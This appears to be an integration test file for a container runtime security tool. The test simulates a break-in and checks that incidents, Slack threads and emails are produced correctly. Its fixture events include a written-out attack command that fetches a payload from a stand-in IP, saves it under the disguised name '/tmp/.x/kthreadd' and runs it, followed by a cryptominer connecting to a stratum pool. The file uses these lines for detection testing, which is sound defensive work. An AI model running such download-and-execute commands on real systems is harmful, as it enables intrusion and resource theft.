import { createHash, randomUUID } from 'node:crypto';

import { freePort } from '@tidewaiter/servers';
import {
  buildImage,
  describeWith,
  mailSink,
  type MailSink,
  programs,
  pushImage,
  type SlackPost,
  slackSink,
  type SlackSink,
  startRegistry,
  type TestRegistry,
} from '@tidewaiter/testkit';

import { debian13, dpkgStatus, writeAdvisories } from './fixtures.js';
import {
  makeHome,
  quiet,
  removeFolders,
  startTidewaiter,
  temporaryFolder,
  type Tidewaiter,
  until,
} from './tidewaiter.js';

// An image is pushed and analyzed, a workload starts it, an attacker breaks in, and one message in
// Slack is updated as the incident grows.

interface ListedIncident {
  id: string;
  number: number;
  state: string;
  severity: string;
  workload: string | null;
  imageDigest: string | null;
  findings: string[];
  techniques: string[];
  steps: { title: string; events: string[] }[];
}

interface IncidentDetail extends ListedIncident {
  sentence: string;
  evidence: { event: string; text: string }[];
  timeline: { kind: string; title: string }[];
  imageFacts: { push: { repository: string } } | null;
  blastRadius: { workloads: { total: number; items: { workload: string }[] }; images: { total: number } };
  rules: { title: string; author: string | null }[];
}

const hookSecret = 'hook-secret-of-the-test';
const sensorToken = 'sensor-token-of-the-test';
const channel = 'C0000001';
const node = 'node-1';
const containerId = createHash('sha256').update('payment').digest('hex');

let slack: SlackSink;
let mail: MailSink;
let registry: TestRegistry;
let tidewaiter: Tidewaiter;
let digest: string;

beforeAll(async () => {
  [slack, mail] = await Promise.all([slackSink(), mailSink()]);
  const ingestPort = await freePort();
  registry = await startRegistry({
    notify: {
      url: `http://127.0.0.1:${ingestPort}/hooks/registry/main`,
      headers: { Authorization: `Bearer ${hookSecret}` },
    },
  });
  const home = makeHome({
    'tidewaiter.yaml': `
registries:
  - { name: main, kind: distribution, url: "${registry.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
sensors:
  - { name: nodes, kind: tetragon, cluster: eu1, token: ${sensorToken} }
  - { name: audit, kind: kubernetes-audit, cluster: eu1, token: ${sensorToken} }
  - { name: watch, kind: kubernetes-watch, cluster: eu1, token: ${sensorToken} }
`,
    'routing.yaml': `
global: { smtp_smarthost: "127.0.0.1:${mail.port}", smtp_from: tidewaiter@example.com, smtp_require_tls: false }
route:
  receiver: none
  routes: [ { receiver: security, matchers: [ 'kind="incident"' ] } ]
receivers:
  - name: none
  - name: security
    slack_configs: [ { app_token: xoxb-test, app_url: "${slack.apiUrl}/chat.postMessage", channel: ${channel}, send_resolved: true } ]
    email_configs: [ { to: security@example.com, send_resolved: true } ]
`,
  });
  tidewaiter = await startTidewaiter(home, ingestPort);
  const holes = [
    { id: 'CVE-2026-3001', package: 'dash', fixed: '0.5.12-3', severity: 'CRITICAL' as const },
    { id: 'CVE-2026-3002', package: 'curl', fixed: '8.5.0-2', severity: 'LOW' as const },
  ];
  await tidewaiter.command('advisories', 'import', writeAdvisories(temporaryFolder(), holes));
  digest = await push('shop/payment:1.4');
}, 240_000);

afterAll(async () => {
  await tidewaiter?.stop();
  await Promise.all([registry?.stop(), slack?.stop(), mail?.stop()]);
  await removeFolders();
});

/** Pushes a small Debian with a server and a shell; returns its digest once it is analyzed. */
async function push(name: string): Promise<string> {
  const dir = temporaryFolder();
  const program = (path: string) => ({ path, mode: 0o755, content: `#!/bin/sh\n# ${path}\n` });
  await buildImage(dir, {
    layers: [
      [debian13, dpkgStatus({ dash: '0.5.12-2', curl: '8.5.0-1' })],
      [{ path: 'var/lib/dpkg/info/curl.list', content: '/.\n/usr\n/usr/bin\n/usr/bin/curl\n' }],
      [program('usr/bin/dash'), program('bin/sh'), program('usr/bin/curl')],
      [program('app/server')],
    ],
    config: { Entrypoint: ['/app/server'] },
  });
  const pushed = await pushImage(registry, name, `oci:${dir}:latest`);
  await until('the push is read', async () => {
    const { items } = await tidewaiter.api<{ items: { digest: string | null; state: string }[] }>('/pushes');
    return items.some((each) => each.digest === pushed && each.state === 'analyzed');
  });
  return pushed;
}

async function report(sensor: string, ...events: object[]): Promise<void> {
  const answer = await fetch(`${tidewaiter.ingestUrl}/hooks/runtime/${sensor}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${sensorToken}`, 'content-type': 'application/json' },
    body: events.map((event) => JSON.stringify(event)).join('\n'),
  });
  expect([answer.status, await answer.text()]).toEqual([202, expect.any(String)]);
}

/** A Pod as the API server sends it to a watch. */
function podOf(deployment: string, id: string): object {
  const name = `${deployment}-7d4c9f6b5-x2x9k`;
  return {
    type: 'ADDED',
    object: {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: {
        name,
        namespace: 'shop',
        uid: randomUUID(),
        resourceVersion: '7',
        creationTimestamp: new Date(Date.now() - 600_000).toISOString(),
        labels: { app: deployment, 'pod-template-hash': '7d4c9f6b5' },
        ownerReferences: [{ kind: 'ReplicaSet', name: `${deployment}-7d4c9f6b5`, controller: true }],
      },
      spec: {
        nodeName: node,
        serviceAccountName: 'default',
        containers: [{ name: deployment, image: `${registry.host}/shop/payment:1.4` }],
      },
      status: {
        phase: 'Running',
        containerStatuses: [
          {
            name: deployment,
            containerID: `containerd://${id}`,
            image: `${registry.host}/shop/payment:1.4`,
            imageID: `${registry.host}/shop/payment@${digest}`,
            state: { running: { startedAt: new Date(Date.now() - 600_000).toISOString() } },
          },
        ],
      },
    },
  };
}

let serial = 0;
let clockMs = Date.now();

/** Strictly increasing times, as on a node. */
function now(): string {
  clockMs = Math.max(clockMs + 5, Date.now());
  return new Date(clockMs).toISOString();
}

/** A process of the container as Tetragon reports it. */
function processOf(binary: string, args: string, parent: object | null = null): object {
  serial += 1;
  const time = now();
  return {
    exec_id: Buffer.from(`${node}:${serial}`).toString('base64'),
    pid: 4_000 + serial,
    uid: 0,
    cwd: '/',
    binary,
    arguments: args,
    flags: 'execve clone',
    start_time: time,
    auid: 4_294_967_295,
    pod: {
      namespace: 'shop',
      name: 'payment-7d4c9f6b5-x2x9k',
      workload: 'payment',
      workload_kind: 'Deployment',
      container: {
        id: `containerd://${containerId}`,
        name: 'payment',
        image: { id: `${registry.host}/shop/payment@${digest}`, name: `${registry.host}/shop/payment:1.4` },
        start_time: new Date(Date.now() - 600_000).toISOString(),
        pid: serial,
      },
    },
    docker: containerId.slice(0, 31),
    in_init_tree: true,
    ...(parent && { parent_exec_id: (parent as { exec_id: string }).exec_id }),
  };
}

const at = (process: object) => ({ node_name: node, time: now(), ...process });
const exec = (process: object, parent: object | null) => at({ process_exec: { process, ...(parent && { parent }) } });
const connect = (process: object, daddr: string, dport: number) =>
  at({
    process_kprobe: {
      process,
      function_name: 'tcp_connect',
      args: [
        {
          sock_arg: {
            family: 'AF_INET',
            type: 'SOCK_STREAM',
            protocol: 'IPPROTO_TCP',
            saddr: '10.42.0.17',
            daddr,
            sport: 59_182,
            dport,
          },
        },
      ],
      action: 'KPROBE_ACTION_POST',
      policy_name: 'egress-connect',
    },
  });

/** Audit event of an attacker who opens a shell in the pod through the API server. */
function podExec(): object {
  const time = new Date().toISOString();
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: randomUUID(),
    stage: 'ResponseComplete',
    requestURI: '/api/v1/namespaces/shop/pods/payment-7d4c9f6b5-x2x9k/exec?command=sh&stdin=true&tty=true',
    verb: 'create',
    user: {
      username: 'system:serviceaccount:shop:default',
      groups: ['system:serviceaccounts', 'system:authenticated'],
    },
    sourceIPs: ['203.0.113.9'],
    userAgent: 'kubectl/v1.33.0',
    objectRef: {
      resource: 'pods',
      namespace: 'shop',
      name: 'payment-7d4c9f6b5-x2x9k',
      apiVersion: 'v1',
      subresource: 'exec',
    },
    responseStatus: { metadata: {}, code: 101 },
    requestReceivedTimestamp: time,
    stageTimestamp: time,
  };
}

async function incidents(): Promise<ListedIncident[]> {
  return (await tidewaiter.api<{ items: ListedIncident[] }>('/incidents')).items;
}

const messages = (): SlackPost[] => slack.channel(channel).filter(({ thread_ts: thread }) => thread === undefined);

describeWith(programs('docker-registry', 'skopeo'))('an attack on a container', () => {
  let id: string;

  it('raises nothing for usual behavior of the workload', async () => {
    await report('watch', podOf('payment', containerId), podOf('checkout', containerId.replaceAll(/[a-f]/g, '0')));
    const server = processOf('/app/server', '');
    await report('nodes', exec(server, null));
    await quiet();
    expect(await incidents()).toEqual([]);
    expect(messages()).toEqual([]);
  });

  it('opens one incident with the known facts about the image, and one message', async () => {
    const server = processOf('/app/server', '');
    const shell = processOf(
      '/bin/sh',
      '-c "curl -s http://203.0.113.77/x -o /tmp/.x/kthreadd; /tmp/.x/kthreadd"',
      server,
    );
    const curl = processOf('/usr/bin/curl', '-s http://203.0.113.77/x -o /tmp/.x/kthreadd', shell);
    const miner = processOf('/tmp/.x/kthreadd', '-o stratum+tcp://203.0.113.77:3333 -u wallet', shell);
    await report(
      'nodes',
      exec(shell, server),
      exec(curl, shell),
      connect(curl, '203.0.113.77', 80),
      exec(miner, shell),
    );
    await until('an incident is open', async () => (await incidents()).length > 0);
    await until('Slack has the message', () => messages().length > 0);
    const [incident, ...others] = await incidents();
    expect(others).toEqual([]);
    expect(incident).toMatchObject({ state: 'open', workload: 'shop/Deployment/payment', imageDigest: digest });
    expect(incident!.findings).toContain('drift');
    id = incident!.id;
    expect(messages()).toHaveLength(1);
    expect(JSON.stringify(messages()[0]!.blocks)).toContain('shop/Deployment/payment');
  });

  it('adds later steps to the thread of that message', async () => {
    const before = await tidewaiter.api<IncidentDetail>(`/incidents/${id}`);
    const miner = processOf('/tmp/.x/kthreadd', '-o stratum+tcp://203.0.113.77:3333 -u wallet');
    await report('nodes', connect(miner, '203.0.113.77', 3333));
    await report('audit', podExec());
    await until('the incident has another step', async () => {
      const now = await tidewaiter.api<IncidentDetail>(`/incidents/${id}`);
      return now.steps.length > before.steps.length;
    });
    await until('the thread grows', () => slack.thread(channel, messages()[0]!.ts).length > 0);
    expect(await incidents()).toHaveLength(1);
    expect(messages()).toHaveLength(1);
    expect(messages()[0]!.edits).toBeGreaterThan(0);
  });

  it('has all its steps at its address', async () => {
    const incident = await tidewaiter.api<IncidentDetail>(`/incidents/${id}`);
    expect(incident.sentence).not.toBe('');
    expect(incident.evidence.map(({ text }) => text).join('\n')).toContain('/tmp/.x/kthreadd');
    expect(incident.imageFacts).toMatchObject({ push: { repository: 'shop/payment' } });
    expect(incident.timeline.map(({ kind }) => kind)).toEqual(
      expect.arrayContaining(['push', 'step', 'state', 'message']),
    );
    expect(incident.timeline[0]).toMatchObject({ kind: 'push' });
    // The other deployment runs the same image and did nothing.
    expect(incident.blastRadius).toMatchObject({
      images: { total: 1 },
      workloads: { items: [{ workload: 'shop/Deployment/checkout' }] },
    });
    const alerts = await tidewaiter.api<{ items: { incidentId: string | null }[] }>(`/alerts?incident=${id}`);
    expect(alerts.items.length).toBeGreaterThan(0);
  });

  it('lists findings in use first, even mild ones', async () => {
    let findings: { kind: string; id: string; running: boolean | null; inUse: boolean | null }[] = [];
    await until('curl is known to be in use', async () => {
      findings = (await tidewaiter.api<{ items: typeof findings }>(`/images/${digest}/findings`)).items;
      return findings[0]?.inUse === true;
    });
    expect(findings.filter(({ kind }) => kind === 'vulnerability')).toMatchObject([
      { id: 'CVE-2026-3002', running: true, inUse: true },
      { id: 'CVE-2026-3001', running: true },
    ]);
  });

  it('ends with one note when a user resolves it', async () => {
    const notes = () => slack.thread(channel, messages()[0]!.ts).map(({ text }) => text.split(': ').at(-1));
    await tidewaiter.api(`/incidents/${id}/resolve`, { method: 'POST' });
    await until('the message says so', () => messages()[0]!.text.startsWith('Resolved'));
    await until('the thread has its note', () => notes().includes('Resolved by bootstrap'));
    await quiet();
    expect(notes().filter((text) => text?.startsWith('Resolved'))).toEqual(['Resolved by bootstrap']);
    expect(notes().at(-1)).toBe('Resolved by bootstrap');
    expect(messages()).toHaveLength(1);
    const mails = mail.received.map(({ mail: { subject, references } }) => ({
      subject,
      references: [references].flat(),
    }));
    expect(mails.at(-1)).toMatchObject({ subject: expect.stringMatching(/^Re: /) });
    expect(new Set(mails.map(({ references }) => references[0])).size).toBe(1);
  });
});
